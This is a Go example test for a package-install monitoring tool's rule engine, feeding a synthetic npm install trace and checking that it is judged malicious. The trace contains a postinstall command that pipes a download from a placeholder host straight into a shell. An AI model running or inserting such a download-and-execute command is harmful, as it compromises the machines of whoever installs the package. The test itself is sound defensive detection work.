package rules_test

import (
	"fmt"
	"strings"

	"github.com/fumehood/fumehood/rules"
	"github.com/fumehood/fumehood/trace"
)

func ExampleSet_Judge() {
	s, err := rules.Builtin()
	if err != nil {
		panic(err)
	}
	// npm runs a postinstall shell that pipes a download into sh.
	tr, err := trace.Decode(strings.NewReader(`
{"seq":1,"phase":"install","kind":"exec","tgid":10,"start":1,"path":"/usr/bin/node","argv":["node","/usr/bin/npm","install","pkg"]}
{"seq":2,"phase":"install","kind":"fork","tgid":10,"start":1,"child_pid":11,"child_start":2}
{"seq":3,"phase":"install","kind":"exec","tgid":11,"start":2,"ppid":10,"path":"/bin/sh","argv":["sh","-c","curl -s http://dl.example.invalid/i.sh | sh"]}
{"seq":4,"phase":"install","kind":"fork","tgid":11,"start":2,"child_pid":12,"child_start":3}
{"seq":5,"phase":"install","kind":"exec","tgid":12,"start":3,"ppid":11,"path":"/usr/bin/curl","argv":["curl","-s","http://dl.example.invalid/i.sh"]}
{"seq":6,"phase":"install","kind":"connect","tgid":12,"start":3,"family":2,"addr":"10.200.0.1","port":80}
`))
	if err != nil {
		panic(err)
	}
	j := s.Judge(tr)
	fmt.Println(j.Verdict, j.Score)
	for _, h := range j.Hits {
		fmt.Println(h.Severity, h.Rule, h.Events)
	}
	// Output:
	// malicious 70
	// high download-pipe-shell [3]
	// low outbound-connect [6]
}
